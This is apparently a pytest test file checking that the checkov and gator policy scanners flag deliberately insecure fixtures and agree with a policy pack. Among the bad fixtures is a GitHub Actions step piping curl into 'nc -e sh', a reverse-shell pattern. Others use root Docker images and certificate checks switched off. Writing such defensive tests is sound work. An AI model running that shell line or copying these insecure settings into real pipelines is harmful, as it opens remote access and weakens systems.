"""checkov and gator themselves: what they find in bad fixtures of every kind, and that they agree with the pack."""

from __future__ import annotations

import json
import subprocess
from collections import defaultdict
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from components.mesh.names import PROXY, SECRETS_QUESTION
from groundwork.console import PlainProgress
from groundwork.errors import ExitCode, UserError
from local import toolchain
from local.paths import Paths
from policies.admission import own
from policies.admission.dry_run import refusals
from policies.admission.templates import Manifest, held, kind_of, manifests
from policies.checkov.environment import ensure
from policies.checkov.scan import Scan, scan
from policies.rule import Resource, Severity, at
from tests.command import groundwork
from tests.policies.parity import BESIDE, CASES, CHECKOV, PACK_ONLY, Form, as_manifest, forms

pytestmark = pytest.mark.engine

# Bad in one way at least for each of checkov's runners that read files, and what it must say of them.
BAD_FILES = {
    "images/bad/Dockerfile": "FROM debian:latest\nRUN apt-get update\nADD https://example.com/a /a\nUSER root\n",
    ".github/workflows/bad.yml": (
        "on: push\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n"
        "      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n    steps:\n      - run: curl http://example.com | nc -e sh a 1\n"
    ),
    "playbooks/bad.yml": (
        "- hosts: all\n  tasks:\n    - name: fetch\n      ansible.builtin.get_url:\n        url: https://example.com/a\n"
        "        dest: /a\n        validate_certs: false\n"
    ),
}
FOUND_IN_FILES = {
    "CKV_DOCKER_2", "CKV_DOCKER_4", "CKV_DOCKER_5", "CKV_DOCKER_7", "CKV_DOCKER_8",
    "CKV_GHA_1", "CKV2_GHA_1", "CKV_ANSIBLE_2",
}  # fmt: skip
# Where a template names the kind of its constraints.
NAMES = ("spec", "crd", "spec", "names")


@pytest.fixture(scope="module")
def checkov() -> Path:
    return ensure(Paths.for_user().cache)


@pytest.fixture(scope="module")
def gator() -> Path:
    return toolchain.ensure(("gator",), progress=PlainProgress()).path("gator")


@pytest.fixture(scope="module")
def every() -> Sequence[Form]:
    return list(forms(frozenset(case.policy for case in CASES)))


@pytest.fixture(scope="module")
def twice(every: Sequence[Form]) -> Sequence[Form]:
    return [form for form in every if form.case.policy in CHECKOV]


@pytest.fixture(scope="module")
def seen(checkov: Path, every: Sequence[Form], tmp_path_factory: pytest.TempPathFactory) -> Scan:
    """One run for all tests: every fixture of the pack, and files bad in every way."""
    checkout = tmp_path_factory.mktemp("checkout")
    for name, text in BAD_FILES.items():
        file = checkout / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    return scan(checkov, [form.resource for form in every], checkout)


def failed(seen: Scan, form: Form) -> set[str]:
    return {each.check for each in seen.found if each.where == form.resource.urn}


def test_checkov_reads_all_that_it_is_given(seen: Scan) -> None:
    assert seen.unread == ()
    assert seen.untranslated == ()


def test_checkov_finds_what_is_bad_in_files_of_every_kind(seen: Scan) -> None:
    found = {each.check for each in seen.found if not each.where.startswith("urn:")}
    assert found == FOUND_IN_FILES


def test_checkov_and_the_pack_agree_but_where_the_pack_sees_more(seen: Scan, twice: Sequence[Form]) -> None:
    """The pack lets each good form pass and finds each bad one (tests/policies/test_pack.py)."""
    said = {form.name: failed(seen, form) & CHECKOV[form.case.policy] for form in twice}
    assert [form.name for form in twice if form.path is None and said[form.name]] == []
    assert {form.name for form in twice if form.path is not None and not said[form.name]} == PACK_ONLY


def test_a_check_that_finds_what_a_rule_finds_is_in_the_table(seen: Scan, every: Sequence[Form]) -> None:
    """Otherwise a rule exists twice, and nothing holds the two to each other."""
    known = frozenset().union(*CHECKOV.values()) | BESIDE
    good: dict[str, set[str]] = defaultdict(set)
    for form in every:
        if form.path is None:
            good[form.case.policy] |= failed(seen, form)
    more = {check for form in every for check in failed(seen, form) - good[form.case.policy] - known}
    assert more == set()


def test_what_checkov_cannot_read_is_named(checkov: Path, tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "a.yml").write_text("on: [push\n")
    assert scan(checkov, [], tmp_path).unread == ("github_actions (no check was made)",)


def refused(gator: Path, resources: Sequence[Resource]) -> set[tuple[str, str]]:
    return {(each.policy, each.urn) for each in refusals(gator, resources)}


@pytest.mark.parametrize("policy", [rule.id for rule in held()])
def test_admission_and_the_pack_agree(policy: str, gator: Path) -> None:
    listed = list(forms(frozenset({policy})))
    assert any(form.path is None for form in listed)
    # A rule that looks at objects beside the one that is asked about is asked about one form at a time.
    if not any(form.case.beside for form in listed):
        found = refused(gator, [form.resource for form in listed])
    else:
        found = set()
        for form in listed:
            beside = [
                Resource(
                    type=each.type, urn=f"urn:{each.name}", name=each.name, props=as_manifest(each.type, each.props)
                )
                for each in form.case.beside
            ]
            found |= refused(gator, [form.resource, *beside])
    bad = {form.resource.urn for form in listed if form.path is not None}
    assert {urn for said, urn in found if said == policy} & {form.resource.urn for form in listed} == bad


def test_each_template_holds_by_gators_own_suites(gator: Path, tmp_path: Path) -> None:
    """One object at a time, as a webhook sees them: `gator test` sees all of a stack together."""
    for rule in held():
        folder = tmp_path / rule.id
        folder.mkdir()
        write_suite(folder, rule.id, list(forms(frozenset({rule.id}))))
    ended = subprocess.run([str(gator), "verify", f"{tmp_path}/..."], capture_output=True, text=True, check=False)
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert ended.stdout.count("ok\t") == len(held())


def write_suite(folder: Path, policy: str, listed: Sequence[Form]) -> None:
    (rule,) = [rule for rule in held() if rule.id == policy]
    made = [each for each in manifests() if kind_of(rule) in {each["kind"], str(at(each, *NAMES, "kind"))}]
    assert len(made) == 2
    cases = []
    for number, form in enumerate(listed):
        beside = [(f"beside{each.name}{number}", as_manifest(each.type, each.props)) for each in form.case.beside]
        for name, each in ((f"object{number}", form.resource.props), *beside):
            (folder / f"{name}.yaml").write_text(json.dumps(each))
        cases.append(
            {
                "name": form.name,
                "object": f"object{number}.yaml",
                "inventory": [f"{name}.yaml" for name, _ in beside],
                "assertions": [{"violations": "no" if form.path is None else "yes"}],
            }
        )
    for name, each in zip(("template", "constraint"), made, strict=True):
        (folder / f"{name}.yaml").write_text(json.dumps(each))
    test = {"name": policy, "template": "template.yaml", "constraint": "constraint.yaml", "cases": cases}
    suite = {"apiVersion": "test.gatekeeper.sh/v1alpha1", "kind": "Suite", "tests": [test]}
    (folder / "suite.yaml").write_text(json.dumps(suite))


def test_what_only_admission_sees_holds_by_gators_own_suites(gator: Path, tmp_path: Path) -> None:
    listed, other = "sha256:" + "a" * 64, "sha256:" + "b" * 64
    made = list(own.manifests([f"localhost/groundwork/redis@{listed}"]))
    images = {
        "as the bill has it": (f"localhost/groundwork/redis@{listed}", "no"),
        "of another digest": (f"localhost/groundwork/redis@{other}", "yes"),
        "by tag": ("localhost/groundwork/redis:7", "yes"),
        "by a tag that looks like a digest": (f"localhost/groundwork/redis:{listed.replace(':', '-')}", "yes"),
    }
    _write_own(tmp_path / "bill", made[:2], {name: (_pod(image), said) for name, (image, said) in images.items()})
    _write_own(tmp_path / "nothing", list(own.manifests([]))[:2], {"nothing": (_pod(images["by tag"][0]), "yes")})
    ephemeral = _pod(f"localhost/groundwork/redis@{listed}", ephemeral=f"localhost/groundwork/sh@{other}")
    _write_own(tmp_path / "ephemeral", made[:2], {"beside it": (ephemeral, "yes")})
    old, new = (f"localhost/groundwork/redis@{digest}" for digest in (other, listed))
    updates = {
        "written again as it is": (_updated(old, _pod(old)), "no"),
        "changed to what the bill has": (_updated(old, _pod(new)), "no"),
        "changed to what it has not": (_updated(new, _pod(old)), "yes"),
        "beside one that stays": (_updated(old, _pod(old, ephemeral=f"localhost/groundwork/sh@{other}")), "yes"),
        "made anew": (_updated(old, _pod(old), operation="CREATE"), "yes"),
    }
    _write_own(tmp_path / "updates", made[:2], updates)
    entries = {
        f"{kind} of {space}": (_connect(kind, space), "yes" if space == "acme" else "no")
        for kind in sorted(own.NO_EXEC.types)
        for space in ("acme", "groundwork-gateway")
    }
    question: Mapping[str, object] = {"container": PROXY, "command": list(SECRETS_QUESTION)}
    others: dict[str, Mapping[str, object]] = {
        "with input": {**question, "stdin": True},
        "on a terminal": {**question, "tty": True},
        "in another container": {**question, "container": "agent"},
        "in the one that comes first": {"command": list(SECRETS_QUESTION)},
        "more than it": {**question, "command": [*SECRETS_QUESTION, "x"]},
        "a shell": {**question, "command": ["sh"]},
    }
    entries["the question"] = (_connect("PodExecOptions", "acme", question), "no")
    entries["the question as another kind"] = (_connect("PodAttachOptions", "acme", question), "yes")
    entries |= {name: (_connect("PodExecOptions", "acme", options), "yes") for name, options in others.items()}
    _write_own(tmp_path / "exec", made[2:], entries)
    ended = subprocess.run([str(gator), "verify", f"{tmp_path}/..."], capture_output=True, text=True, check=False)
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert ended.stdout.count("ok\t") == 5


def _pod(image: str, *, ephemeral: str | None = None) -> Mapping[str, object]:
    spec = {"containers": [{"name": "server", "image": image}]}
    if ephemeral:
        spec["ephemeralContainers"] = [{"name": "beside", "image": ephemeral}]
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a", "namespace": "acme"}, "spec": spec}


def _updated(before: str, after: Mapping[str, object], operation: str = "UPDATE") -> Mapping[str, object]:
    """As the API server asks about a pod that is written over another."""
    request = {
        "uid": "1", "operation": operation, "name": "a", "namespace": "acme", "userInfo": {"username": "kim"},
        "kind": {"group": "", "version": "v1", "kind": "Pod"},
        "resource": {"group": "", "version": "v1", "resource": "pods"},
        "object": after, "oldObject": _pod(before) if operation == "UPDATE" else None,
    }  # fmt: skip
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}


def _connect(kind: str, namespace: str, options: Mapping[str, object] | None = None) -> Mapping[str, object]:
    """As the API server asks about `kubectl exec`."""
    request = {
        "uid": "1", "operation": "CONNECT", "name": "a", "namespace": namespace, "userInfo": {"username": "kim"},
        "kind": {"group": "", "version": "v1", "kind": kind},
        "resource": {"group": "", "version": "v1", "resource": "pods"},
        "subResource": kind.removeprefix("Pod").removesuffix("Options").lower(),
        "object": {"apiVersion": "v1", "kind": kind, **(options or {})},
    }  # fmt: skip
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}


def _write_own(folder: Path, made: Sequence[Manifest], cases: Mapping[str, tuple[Mapping[str, object], str]]) -> None:
    folder.mkdir()
    for name, each in zip(("template", "constraint"), made, strict=True):
        (folder / f"{name}.yaml").write_text(json.dumps(each))
    spaces = {"acme": {"groundwork/tenant": "acme"}, "groundwork-gateway": {}}
    for space, labels in spaces.items():
        metadata = {"name": space, "labels": labels}
        (folder / f"{space}.yaml").write_text(
            json.dumps({"apiVersion": "v1", "kind": "Namespace", "metadata": metadata})
        )
    listed = []
    for number, (name, (asked, said)) in enumerate(cases.items()):
        (folder / f"object{number}.yaml").write_text(json.dumps(asked))
        assertions = [{"violations": said}]
        inventory = [f"{space}.yaml" for space in spaces]
        listed.append(
            {"name": name, "object": f"object{number}.yaml", "inventory": inventory, "assertions": assertions}
        )
    test = {"name": folder.name, "template": "template.yaml", "constraint": "constraint.yaml", "cases": listed}
    suite = {"apiVersion": "test.gatekeeper.sh/v1alpha1", "kind": "Suite", "tests": [test]}
    (folder / "suite.yaml").write_text(json.dumps(suite))


def test_an_object_that_admission_cannot_read_is_an_error(gator: Path) -> None:
    (form, *_) = forms(frozenset({"k8s-image-digest"}))
    odd = Resource(type=form.resource.type, urn="urn:a", name="a", props={"apiVersion": "v1", "kind": ""})
    with pytest.raises(UserError):
        refusals(gator, [odd])


def test_an_environment_that_is_not_up_breaks_nothing_that_is_known() -> None:
    """Inconclusive, and no pass: AWS would have to compute values first. Rehearsals ask of what is up."""
    done = groundwork("policy", "check", "staging", "--json")
    assert done.returncode == ExitCode.INCONCLUSIVE, done.stderr
    told = json.loads(done.stdout)
    assert {check["outcome"] for check in told["verdict"]["checks"]} <= {"pass", "inconclusive"}
    assert [each for each in told["findings"] if Severity(each["severity"]).stops and not each["excepted"]] == []
